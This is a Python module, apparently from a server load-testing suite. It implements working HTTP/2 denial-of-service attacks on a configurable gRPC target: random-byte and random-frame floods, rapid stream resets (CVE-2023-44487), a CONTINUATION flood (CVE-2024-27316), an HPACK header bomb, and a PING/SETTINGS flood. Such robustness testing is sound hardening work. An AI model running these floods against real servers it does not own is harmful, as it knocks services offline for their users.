"""Attacks with HTTP/2's own frames: nonsense, resets, headers without end, pings."""

from itertools import count

from loadtests import frames
from loadtests.hostile.http2_peer import Http2Peer, call_block, head
from loadtests.hostile.peer import Peer
from loadtests.hostile.seen import Attack, Seen, Target

_AT_ONCE = 50
_CANCEL = (8).to_bytes(4, "big")
_A_FIELD = b"\0\x03x-a\x7e" + b"a" * 126
_KINDS = 12


def garbage_bytes(target: Target, seen: Seen) -> None:
    """Open connections and send random bytes, to the port of gRPC and to that of HTTP."""
    while seen.goes_on():
        for address in (target.grpc, target.http):
            with Peer(address, seen) as peer:
                peer.send(seen.chance.randbytes(seen.chance.randint(1, 2000)))
                peer.listen(0.02)


def garbage_frames(target: Target, seen: Seen) -> None:
    """Open HTTP/2 properly, then send frames of random kind, flags, stream, length and content."""
    while seen.goes_on():
        with Http2Peer(target.grpc, seen) as peer:
            for _ in range(20):
                peer.send(_nonsense(seen))
                seen.add("frames")
                peer.hear()
                if peer.over or peer.leaving:
                    break


def _nonsense(seen: Seen) -> bytes:
    draw = seen.chance.randint
    payload = seen.chance.randbytes(draw(0, 80))
    frame = frames.frame(draw(0, _KINDS), draw(0, 255), draw(0, 9), payload)
    lies = seen.chance.random() < 0.1  # about its length
    return draw(0, 70_000).to_bytes(3, "big") + frame[3:] if lies else frame


def resets(target: Target, seen: Seen) -> None:
    """Start calls and reset each at once, as fast as the socket takes it (rapid reset, CVE-2023-44487)."""
    block = call_block()
    while seen.goes_on():
        with Http2Peer(target.grpc, seen) as peer:
            streams = count(1, 2)
            while seen.goes_on() and not peer.over and not peer.leaving:
                started = [next(streams) for _ in range(_AT_ONCE)]
                peer.send(
                    b"".join(
                        head(stream, block) + frames.frame(frames.RST_STREAM, 0, stream, _CANCEL) for stream in started
                    )
                )
                seen.add("resets", len(started))
                peer.hear()


def endless_headers(target: Target, seen: Seen) -> None:
    """Begin a call's headers and continue them for ever, each piece as long as a frame may be."""
    _continue_for_ever(target, seen, _A_FIELD * (frames.LARGEST_PAYLOAD // len(_A_FIELD)))


def empty_continuations(target: Target, seen: Seen) -> None:
    """Begin a call's headers and continue them for ever with nothing (CONTINUATION flood, CVE-2024-27316)."""
    _continue_for_ever(target, seen, b"")


def _continue_for_ever(target: Target, seen: Seen, piece: bytes) -> None:
    continuation = frames.frame(frames.CONTINUATION, 0, 1, piece)
    at_once = continuation * max(1, (1 << 16) // len(continuation))
    while seen.goes_on():
        with Http2Peer(target.grpc, seen) as peer:
            peer.send(head(1, call_block(), ends=False))
            while seen.goes_on() and not peer.over and not peer.leaving:
                peer.send(at_once)
                seen.add("bytes", len(at_once))
                peer.hear()


def headers_bomb(references: int) -> Attack:
    """Put a long field into HPACK's table, then name it many times: a few bytes that become many, call after call."""
    long_field = b"\x40\x03x-a\x7f\xd0\x1d" + b"a" * 3919  # into the dynamic table, as its newest entry
    named = b"\xbe" * references

    def attack(target: Target, seen: Seen) -> None:
        while seen.goes_on():
            with Http2Peer(target.grpc, seen) as peer:
                for stream in range(1, 400, 2):
                    peer.send(head(stream, call_block() + (long_field if stream == 1 else b"") + named))
                    seen.add("bombs")
                    peer.hear()
                    if peer.over or peer.leaving or not seen.goes_on():
                        break

    return attack


def pings(target: Target, seen: Seen) -> None:
    """Send PING and SETTINGS without end and never read the answers."""
    flood = (frames.frame(frames.PING, 0, 0, bytes(8)) + frames.settings({frames.ENABLE_PUSH: 0})) * 200
    while seen.goes_on():
        with Http2Peer(target.grpc, seen) as peer:
            while seen.goes_on() and not peer.over:
                peer.send(flood)
                seen.add("frames", 400)
